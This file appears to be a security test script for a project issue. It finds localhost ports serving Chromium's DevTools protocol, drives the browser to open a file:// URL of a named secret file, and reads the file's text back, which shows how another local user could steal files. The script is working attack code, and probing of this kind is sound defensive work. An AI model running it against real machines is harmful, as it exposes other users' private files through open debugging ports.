"""What another local user could do with the run's browser (issue 14, item 1).

Run as that user (`setpriv --reuid=nobody ...`): for every TCP port listening on 127.0.0.1, ask
it for Chromium's DevTools endpoint; through every endpoint found, open `file://<secret>` in the
browser and read the page back. Prints a JSON object: the ports that answered as DevTools, and
the texts read.

    python devtools_probe.py /path/to/secret
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import httpx
from websockets.sync.client import connect

LISTEN = "0A"


def listening_ports() -> list[int]:
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            local, state = fields[1], fields[3]
            if state == LISTEN:
                ports.add(int(local.rsplit(":", 1)[1], 16))
    return sorted(ports)


IDS = iter(range(1, 1_000_000))


def call(socket, method: str, params: dict, session: str | None = None) -> dict:
    ident = next(IDS)
    message = {"id": ident, "method": method, "params": params}
    if session:
        message["sessionId"] = session
    socket.send(json.dumps(message))
    while True:
        reply = json.loads(socket.recv(timeout=10))
        if reply.get("id") == ident:
            return reply.get("result", {})


def read_through(url: str, secret: str) -> str:
    with connect(url, max_size=None, open_timeout=5) as socket:
        target = call(socket, "Target.createTarget", {"url": f"file://{secret}"})["targetId"]
        session = call(socket, "Target.attachToTarget",
                       {"targetId": target, "flatten": True})["sessionId"]
        for _ in range(20):
            result = call(socket, "Runtime.evaluate",
                          {"expression": "document.body ? document.body.innerText : ''",
                           "returnByValue": True}, session)
            text = result.get("result", {}).get("value", "")
            if text:
                return text
        return ""


def main(secret: str) -> None:
    found, read = [], []
    for port in listening_ports():
        for host in ("127.0.0.1", "[::1]"):
            try:
                info = httpx.get(f"http://{host}:{port}/json/version", timeout=2).json()
            except Exception:
                continue
            if isinstance(info, dict) and "webSocketDebuggerUrl" in info:
                found.append(port)
                try:
                    read.append(read_through(info["webSocketDebuggerUrl"], secret))
                except Exception as error:
                    read.append(f"(could not read: {error!r})")
                break
    print(json.dumps({"devtools": found, "read": read}))


if __name__ == "__main__":
    main(sys.argv[1])
